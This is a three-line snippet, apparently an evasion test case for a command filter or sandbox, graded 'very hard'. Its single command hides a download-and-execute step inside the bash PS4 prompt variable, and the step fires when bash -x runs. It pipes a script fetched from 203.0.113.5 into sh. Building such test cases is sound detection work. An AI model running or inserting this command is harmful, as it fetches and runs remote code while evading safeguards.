# evasion: PS4 holds a command substitution that bash -x expands
# grade: very hard; does: download-exec
PS4='$(curl -s http://203.0.113.5/s | sh)' bash -xc ':'
